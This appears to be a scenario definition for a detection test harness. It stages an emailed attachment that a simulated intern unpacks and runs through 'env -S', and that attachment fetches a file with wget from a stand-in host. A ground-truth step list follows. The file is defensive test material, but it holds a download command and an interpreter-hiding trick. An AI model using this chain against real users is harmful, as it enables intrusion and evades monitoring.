# The interpreter hides in one argument of env(1).
title="Attached script started with env -S"
what="The intern unpacks a message from an mbox with munpack and starts the attached notes.dat with env -S, which splits its one argument into an interpreter and the file. The script fetches a file from 203.0.113.66 into ~/.cache."
host=mx1.example.org user=intern daemons="cron sshd" store=mbox

setup() { printf 'mkdir -p "$HOME/.cache/n"\nwget -q -O "$HOME/.cache/n/d" http://drop.example.net/n\n' > "$base/out/notes.dat"; }
act() {
  small_talk 2
  mail_in --from course@example.net --to intern@example.org --subject "Notes of the course" --attach "$base/out/notes.dat:application/octet-stream"
  wait_log 'from=<course@example.net>'; wait_mail intern 1
  ssh_as intern <<'L'
mkdir course; cp /var/mail/intern course/m; cd course
munpack m
%sleep 3
env -S 'LC_ALL=C sh -e notes.dat'
L
  small_talk 1
}
truth() {
  mail_step deliver 'to=<intern@example.org>.*status=sent' 'the message is delivered'
  file_step part 'munpack (openat|open):write CREATE .*notes.dat' 'its part is written'
  exec_step split 'env -S LC_ALL=C sh -e notes.dat' 'env splits its argument'
  exec_step execute '(dash|sh) sh -e notes.dat' 'and becomes a shell'
  net_step fetch 'wget 203.0.113.66:80' 'which fetches more'
}
